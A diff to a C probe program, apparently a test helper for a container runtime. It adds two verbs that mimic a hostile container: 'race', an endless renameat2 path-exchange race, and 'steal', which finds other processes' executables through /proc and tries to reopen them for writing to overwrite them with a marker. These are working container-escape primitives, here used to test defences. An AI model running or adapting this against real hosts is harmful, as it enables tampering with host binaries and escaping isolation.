@@ -288,6 +288,46 @@ static int with_terminal(int argc, char **argv)
 	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
 }
 
+/* Exchanges two paths as fast as it can, for ever: what a hostile container does. */
+static int race(const char *one, const char *two)
+{
+	for (;;)
+		syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, two, 2);
+	return 0;
+}
+
+/* Writes to the program of any other process that it can open, once that is no longer busy. */
+static int steal(const char *own)
+{
+	static int fds[256];
+	size_t n = 0;
+	for (long pid = 2;; pid = pid > 3000 ? 2 : pid + 1) {
+		char path[64], target[256];
+		snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
+		ssize_t length = readlink(path, target, sizeof(target) - 1);
+		if (length <= 0)
+			continue;
+		target[length] = '\0';
+		if (!strstr(target, own))
+			continue;
+		int fd = open(path, O_RDONLY | O_CLOEXEC);
+		if (fd >= 0 && n < 256)
+			fds[n++] = fd;
+		for (size_t i = 0; i < n; i++) {
+			snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[i]);
+			int out = open(path, O_WRONLY | O_CLOEXEC);
+			if (out >= 0 && write(out, "STOLEN", 6) == 6)
+				puts("stolen");
+			if (out >= 0)
+				close(out);
+		}
+		if (n == 256)
+			while (n > 0)
+				close(fds[--n]);
+	}
+	return 0;
+}
+
 /* Prints the working directory as the kernel names it, "(unreachable)" and all. */
 static int show_cwd(void)
 {
@@ -322,6 +362,10 @@ int main(int argc, char **argv)
 		return grow(argv[2]);
 	if (!strcmp(verb, "fork") && argc == 3)
 		return fork_many(argv[2]);
+	if (!strcmp(verb, "race") && argc == 4)
+		return race(argv[2], argv[3]);
+	if (!strcmp(verb, "steal") && argc == 3)
+		return steal(argv[2]);
 	if (!strcmp(verb, "pty"))
 		return with_terminal(argc - 2, argv + 2);
 	fprintf(stderr, "probe: unknown verb \"%s\"\n", verb);
